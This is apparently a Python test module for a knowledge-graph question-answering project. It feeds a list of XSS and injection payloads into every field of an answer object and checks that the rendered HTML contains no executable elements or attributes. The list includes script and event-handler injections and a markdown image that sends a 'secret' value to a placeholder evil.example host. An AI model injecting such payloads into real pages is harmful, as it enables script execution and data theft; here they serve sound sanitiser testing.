"""What hostile content may not do in a page: texts that try, an answer full of them, and a reader that finds what could run."""

import re
from datetime import date
from html.parser import HTMLParser

from kgqa.types import Answer, Conflict, Evidence, Link, Passage, Path, Step, Term, Triple, Validity

NAUGHTY = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "' onmouseover='window.pwned=1",
    "javascript:window.pwned=1",
    "data:text/html,<script>1</script>",
    "![x](http://evil.example/?q=secret)",
    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
    "</mark></blockquote></details><iframe src=//evil.example>",
    "<style>body{display:none}</style>",
    "evil\u202excod.exe\x00\x1b[31m",
    "𝄞\ufeff<b>",
]
ALLOWED = frozenset(
    """a article b blockquote button caption circle code dd defs details div dl dt em footer g h2 h3 h4 header i li line
    mark marker ol p path pre progress rect section small span strong summary sup svg table tbody td text th thead title
    tr ul""".split()  # noqa: SIM905
)


class Checker(HTMLParser):
    """Fails on an element or attribute that could load or run something, and on elements that are not closed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.said = ""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert not name.startswith("on") and name not in {"src", "style", "srcset", "action", "formaction"}, name
            assert name != "href" or value.startswith("#"), value
        self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.open.pop()

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.said += data

    def handle_comment(self, data):
        raise AssertionError("a comment")


def check(markup: str) -> str:
    checker = Checker()
    checker.feed(markup)
    checker.close()
    assert checker.open == []
    assert not set(re.sub(r'data-[a-z]+="[^"]*"', "", markup)) & set("\x00\x1b\u202e")
    assert not set(markup) & set("\x00\x1b")
    return checker.said


def name_of(term: Term) -> str:
    return term.value.rsplit("/", 1)[-1]


def hostile(bad: str) -> Answer:
    """An answer with a hostile text in every place that takes one."""
    passage = Passage(
        bad,
        bad,
        f"before {bad} after",
        "en",
        10,
        24 + len(bad),
        bad,
        bad,
        3,
        Validity(date(2020, 1, 1), None, bad, bad),
    )
    quoted = Evidence("passage", 0.5, passage, 17, 17 + len(bad), bad)
    triple = Triple(
        Term(bad),
        Term(bad),
        Term(bad, "literal", bad),
        (bad,),
        Validity(),
        bad,
        (Triple(Term(bad), Term(bad), Term(bad)),),
    )
    walk = Evidence("path", 0.5, path=Path((Step(triple),), 0.1, bad), sparql=bad)
    links = (Link(0, 2, bad, bad, bad, 0.6, "exact", (bad,)), Link(0, 2, bad, bad + "2", bad, 0.5))
    return Answer(
        bad, bad, "entities", 0.8, (bad, bad + "2"), (bad, bad + "2"), True, None, bad, "en", (quoted, walk),
        (Conflict(bad, quoted, walk, bad, bad),), links, (), {bad: 0.1}, {bad: bad}, bad,
    )  # fmt: skip
